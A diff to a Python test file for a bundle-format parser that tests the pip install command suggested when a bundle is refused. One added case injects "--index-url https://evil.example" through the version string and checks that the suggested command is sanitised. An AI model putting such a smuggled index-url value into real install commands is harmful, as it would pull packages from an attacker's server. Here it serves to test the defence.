@@ -98,8 +98,12 @@ def test_what_is_no_head_is_refused(text: bytes) -> None:
 
 def test_a_newer_format_is_refused_by_name() -> None:
     text = Head(1, None, {}, written_by="rlharness 9.1").encoded().replace(b'"format": 1', b'"format": 2')
-    with pytest.raises(BundleError, match=r"format 2[\s\S]*rlharness 9\.1"):
+    with pytest.raises(BundleError, match="format 2") as refused:
         parse_head(text)
+    assert refused.value.remedy == "pip install 'rlharness>=9.1'"
+    with pytest.raises(BundleError, match="format 2") as refused:
+        parse_head(text.replace(b"9.1", b"9.1' --index-url https://evil.example 'x"))
+    assert refused.value.remedy == "pip install --upgrade rlharness"
 
 
 CALL = {"entry": "a.b:c", "config": {"seed": 1}, "runtime_sections": ["output"], "resume": {"run": "a", "step": "b"}}
